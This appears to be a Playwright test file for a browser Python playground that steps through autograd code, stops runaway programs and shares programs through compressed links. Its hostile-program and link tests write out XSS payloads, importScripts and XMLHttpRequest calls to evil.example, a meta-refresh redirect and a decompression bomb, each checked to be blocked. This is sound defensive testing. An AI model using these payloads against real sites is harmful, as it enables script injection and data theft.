"""The page, from a server and as one file: a program runs, is stepped through, stopped, mended, and shared."""

from __future__ import annotations

import base64
import random
import re
import time
import zlib

import pytest
from conftest import link_of

NEURON = """from autograd import step_through


def neuron(x, w):
    n = w * x  # a product
    return n.tanh()


step_through(neuron, 2.0, -3.0)"""


def violations(page):
    axe = pytest.importorskip("axe_playwright_python.sync_playwright", reason="axe-core checks the accessibility")
    found = axe.Axe().run(page, options={"iframes": False}).response["violations"]
    return [(one["id"], [node["html"] for node in one["nodes"]]) for one in found]


# ---------------------------------------------------------------------- running


def test_a_program_is_run_and_stepped_through(playground):
    playground.run(NEURON)
    assert re.fullmatch(r"Done in \d+\.\d\d s", playground.state)
    assert playground.page.locator(".state").get_attribute("role") == "status"
    assert [kind for kind, _ in playground.blocks] == ["stepper"]
    frame = playground.frame()
    frame.wait_for_selector(".stepgrad.live")
    frame.locator(".drawer-button", has_text="Program").click()
    assert "n = w * x  # a product" in frame.inner_text(".source")
    frame.click(".next")
    said = frame.inner_text(".narration")
    frame.click(".next")
    assert frame.inner_text(".narration") != said


def test_the_stepper_is_apart_from_the_page(playground):
    playground.run(NEURON)
    element, frame = playground.page.locator(".blocks iframe"), playground.frame()
    assert element.get_attribute("sandbox") == "allow-scripts" and frame.evaluate("origin") == "null"
    assert frame.evaluate(
        "(() => { try { return String(parent.document); } catch (error) { return error.name; } })()"
    ) == ("SecurityError")


def test_the_language_is_that_of_the_page_and_its_steppers(playground):
    playground.run(NEURON)
    frame = playground.frame()
    frame.wait_for_selector(".stepgrad.live")
    assert not frame.locator(".language").is_visible()
    playground.page.click(".language")
    try:
        assert playground.page.inner_text(".run") == "运行" and playground.page.title() == "Stepgrad 练习场"
        assert playground.page.get_attribute("html", "lang") == "zh-Hans"
        assert playground.state.startswith("完成，用时 ")
        assert "先按 Escape" in playground.page.get_attribute(".cm-content", "aria-label")
        frame.wait_for_selector(".stepgrad[lang=zh]")
        playground.run("1 +")
        assert playground.page.inner_text(".failure h2") == "第 1 行出错"
    finally:
        playground.page.click(".language")
    assert playground.page.inner_text(".run") == "Run"


def test_an_endless_loop_is_stopped_and_what_it_wrote_stays(playground):
    playground.write("k = 0\nwhile True:\n    if k < 3:\n        print('turn', k)\n    k += 1")
    playground.page.click(".run")
    playground.until("document.querySelector('.blocks').textContent.includes('turn 2')")
    assert playground.page.get_attribute("body", "data-state") == "running" and playground.state == "Running …"
    playground.page.click(".stop")
    assert playground.page.get_attribute("body", "data-state") == "stopped"
    assert playground.state == "Stopped. Python is starting again …"
    playground.until("document.body.dataset.state === 'ready'")
    assert playground.state == "Stopped. Ready again."
    assert playground.blocks == [["text", "turn 0\nturn 1\nturn 2\n"]] and "while True" in playground.program
    playground.run("print('alive')")
    assert playground.blocks == [["text", "alive\n"]]


def test_a_flood_of_text_and_an_end_of_python_are_survived_and_a_program_waits_for_the_next(playground):
    playground.run("import os\nfor _ in range(100_000):\n    print('word ' * 20)\nos._exit(3)")
    assert playground.state == "Python failed: Program terminated with exit(3). Press Run to start it again."
    assert [kind for kind, _ in playground.blocks] == ["text", "left"]
    playground.write("print('patient')")
    playground.page.click(".run")
    assert playground.state == "Python is starting, then the program runs …"
    playground.until("document.body.dataset.state === 'ready'")
    assert playground.blocks == [["text", "patient\n"]]


def test_a_program_that_sends_messages_to_the_page_harms_nobody(playground):
    playground.run("import js\nfor message in ('x', None, 1, '{}'):\n    js.postMessage(message)\nprint('done')")
    assert playground.blocks == [["text", "done\n"]]


def test_an_error_names_the_line_of_the_learner(playground):
    playground.run("import autograd\n\n\ndef f(x):\n    return autograd.tanh(x, 1)\n\n\nprint('before')\nf(2.0)")
    assert playground.state.startswith("Ended with an error after ")
    (kind, text), (failure, said) = playground.blocks
    assert (kind, text, failure) == ("text", "before\n", "failure")
    assert said.startswith("Error in line 5") and "Line 9:" in said and "Line 5, in f:" in said and "TypeError" in said
    assert playground.page.locator(".cm-error-line").inner_text().strip() == "return autograd.tanh(x, 1)"
    playground.page.click(".failure button")
    playground.page.keyboard.type("#")
    assert "\n#    return autograd.tanh(x, 1)" in playground.program
    assert playground.page.locator(".cm-error-line").count() == 0


def test_values_are_shown_as_in_a_notebook(playground):
    playground.run(
        "from autograd import Value, draw\n\n\ndef check(n, x):\n    return x\n\n\n"
        "check('03.1', {'a': 1})\ndisplay(2)\ndraw(Value(2.0, 'x') * 3)"
    )
    blocks = playground.blocks
    assert [kind for kind, _ in blocks] == ["value", "value", "img"] and blocks[0][1] == "{'a': 1}"
    assert playground.page.evaluate("document.querySelector('.blocks img').naturalWidth") > 50
    assert playground.page.get_attribute(".blocks img", "alt")


def test_a_module_that_is_not_here_is_named(playground):
    playground.run("import numpy")
    assert playground.page.inner_text(".failure p").endswith("autograd, nn and stepgrad, but not numpy.")


def test_a_program_that_shows_nothing_says_so(playground):
    playground.run("x = 1")
    assert playground.blocks[0][0] == "note" and "showed nothing" in playground.blocks[0][1]


# ---------------------------------------------------------------------- hostile programs


def test_html_of_a_program_is_shown_but_does_not_run(playground):
    html = (
        "<b>bold</b><script>parent.ran = 1; document.title = 'ran'</script>"
        "<img src=x onerror='document.title = 1'><a href='https://evil.example/' target=_top>away</a>"
        "<iframe src='https://evil.example/'></iframe><style>@import 'https://evil.example/a.css'</style>"
        '<script type=application/json id=program>"document.title = 1"</script>'
    )
    playground.run(f"class A:\n    def _repr_html_(self):\n        return {html!r}\n\nA()")
    frame = playground.frame()
    assert frame.inner_text("b") == "bold"
    frame.click("a")
    playground.page.wait_for_timeout(300)
    assert playground.page.url.startswith(playground.address) and frame.title() == ""
    assert playground.page.evaluate("window.ran") is None
    playground.troubles[:] = [one for one in playground.troubles if not refused(one)]


def test_html_of_a_program_leads_nowhere(playground):
    html = "<meta http-equiv=refresh content='0;url=https://evil.example/'>"
    playground.run(f"class A:\n    def _repr_html_(self):\n        return {html!r}\n\nA()")
    playground.page.wait_for_timeout(300)
    assert playground.page.url.startswith(playground.address)
    assert any("Framing 'https://evil.example/' violates" in one for one in playground.troubles)
    playground.troubles[:] = [one for one in playground.troubles if not refused(one)]


def refused(trouble):
    """What the browser says of that which the policy and the sandbox do not let happen."""
    return re.search(r"Content Security Policy|sandboxed|Unsafe attempt|Not allowed to load local", trouble)


def test_a_frame_is_as_high_as_what_is_in_it(playground):
    playground.run(
        "class A:\n    def _repr_html_(self):\n        return '<div style=\"height:432px\">tall</div>'\n\nA()"
    )
    playground.until("Math.abs(document.querySelector('.blocks iframe').clientHeight - 436) < 5", seconds=5)


def test_a_program_reaches_no_other_host_and_not_its_own(playground):
    program = """import js

def read():
    request = js.XMLHttpRequest.new()
    request.open("GET", "https://evil.example/", False)
    request.send()

def read_here():
    request = js.XMLHttpRequest.new()
    request.open("GET", js.location.origin + "/index.html", False)
    request.send()

for way in (read, read_here, lambda: js.importScripts("https://evil.example/"), lambda: js.eval("1")):
    try:
        way()
    except Exception as error:
        print("refused")
"""
    playground.run(program)
    assert playground.blocks == [["text", "refused\nrefused\nrefused\nrefused\n"]]
    playground.troubles[:] = [one for one in playground.troubles if not refused(one)]


# ---------------------------------------------------------------------- links


def test_a_link_brings_the_program_back_and_does_not_run_it(playground):
    program = "print('shared') # ∂ 梯度 \U0001f642\n"
    playground.write(program)
    playground.page.click(".copy")
    playground.until("/copied|copy/.test(document.querySelector('.notice').innerText)")
    link = playground.page.evaluate("location.href")
    assert link.startswith(playground.address + "#v1=")
    assert zlib.decompress(base64.urlsafe_b64decode(link.partition("=")[2] + "=="), wbits=-15).decode() == program
    if playground.address.startswith("http:"):
        assert playground.notice == "The link is copied; the whole program is in it."
        assert playground.page.evaluate("navigator.clipboard.readText()") == link
    else:
        assert playground.notice.startswith("The link is copied. It leads to this file on this computer;")
    playground.run("print('another')")
    playground.link("#" + link.partition("#")[2])
    assert playground.program == program
    assert playground.notice == "This program came with the link. It has not run: read it, then press Run."
    assert [kind for kind, _ in playground.blocks] == ["note"] and playground.state.startswith("Ready: Python 3.")
    playground.run()
    assert playground.blocks == [["text", "shared\n"]] and playground.notice == ""


def test_where_nothing_may_be_copied_the_link_is_there_to_be_taken(playground):
    page = playground.page
    playground.write("print('by hand')")
    page.evaluate("Object.defineProperty(navigator, 'clipboard', { value: undefined, configurable: true })")
    try:
        page.click(".copy")
        page.wait_for_selector(".link", state="visible")
    finally:
        page.evaluate("delete navigator.clipboard")
    assert page.input_value(".link") == page.evaluate("location.href") and page.get_attribute(".link", "aria-label")
    assert violations(page) == []


def test_a_link_to_a_program_with_tags_shows_them(playground):
    program = "</script><script>window.ran = 1</script><img src=x onerror='window.ran = 1'>\u202etxt"
    playground.link(link_of(program))
    assert "window.ran = 1</script>" in playground.program and playground.page.locator(".cm-specialChar").count() == 1
    assert playground.page.evaluate("window.ran") is None


DAMAGED, HUGE = "The link is damaged", "The program in the link is too long"


@pytest.mark.parametrize(
    ("hash", "said"),
    [
        ("#v1=%%%", DAMAGED),
        ("#v1=abc", DAMAGED),
        ("#v1=", DAMAGED),
        ("#v1=AAAA", DAMAGED),
        ("#v2=" + link_of("print(1)")[4:], DAMAGED),
        ("#javascript:window.ran=1", DAMAGED),
        ("#<script>window.ran=1</script>", DAMAGED),
        (link_of(b"\xff\xfe\xff"), DAMAGED),
        (link_of("print('whole')")[:-4], DAMAGED),
        ("#v1=" + "A" * 1_000_000, HUGE),
        (link_of(b"\0" * 20_000_000), HUGE),
    ],
    ids=["percent", "short", "empty", "zeros", "version", "javascript", "tag", "utf-8", "cut", "giant", "bomb"],
)
def test_a_hostile_link_is_one_sentence(playground, hash, said):
    playground.write("print('mine')")
    playground.link(hash)
    playground.until("document.querySelector('.notice').innerText.includes('link')", seconds=5)
    time.sleep(0.1)
    assert playground.notice.startswith(said) and playground.program == "print('mine')"
    assert playground.page.evaluate("window.ran") is None


def test_a_program_too_long_for_a_link_is_one_sentence(playground):
    playground.write("")
    playground.page.focus(".cm-content")
    playground.page.keyboard.insert_text("".join(random.Random(0).choices("abcdefghijklmnopqrstuvwxyz", k=60_000)))
    playground.page.click(".copy")
    playground.until("document.querySelector('.notice').innerText.includes('too long')", seconds=5)
    assert playground.notice == "The program is too long for a link. Send it as a file."


# ---------------------------------------------------------------------- by keyboard, on a phone, in the dark


def test_the_keyboard_is_enough(playground):
    page = playground.page
    playground.write("")
    page.focus(".cm-content")
    page.keyboard.type("if 1:\n")
    page.keyboard.press("Tab")
    page.keyboard.type("print('typed')")
    assert "print('typed')" in playground.program
    page.keyboard.press("Control+Enter")
    playground.until("document.querySelector('.blocks').textContent === 'typed\\n'")
    page.keyboard.press("Escape")
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.className") == "run"
    page.keyboard.press("Shift+Tab")
    assert page.evaluate("document.activeElement.classList.contains('cm-content')")
    page.focus(".copy")
    page.keyboard.press("Control+Enter")
    playground.until("document.body.dataset.state === 'ready'")


STATES = {
    "stepper": NEURON,
    "error": "print('x' * 300)\nimport numpy\n",
    "text": "import sys\nprint('out')\nprint('err', file=sys.stderr)\nprint('a  b  c ' * 40)\n{*range(99)}",
}


@pytest.mark.parametrize("state", STATES)
def test_axe_finds_nothing_and_a_phone_scrolls_down_only(playground, state):
    page = playground.page
    playground.run(STATES[state])
    playground.link("#v1=damaged")
    for width, height in ((1280, 900), (390, 844), (320, 700)):
        page.set_viewport_size({"width": width, "height": height})
        for scheme in ("light", "dark"):
            page.emulate_media(color_scheme=scheme)
            assert violations(page) == [], (width, scheme)
        assert page.evaluate("document.documentElement.scrollWidth") <= width
    dark = page.evaluate("getComputedStyle(document.body).backgroundColor")
    assert dark == "rgb(21, 24, 28)"


# ---------------------------------------------------------------------- the file


def test_every_part_is_asked_for_once(playground):
    names = [url.rsplit("/", 1)[1] for url in playground.requests if url.startswith(playground.address)]
    names = [name.partition("#")[0] for name in names]
    assert len(names) == len(set(names)) and len(names) == (8 if playground.address.startswith("http:") else 1)
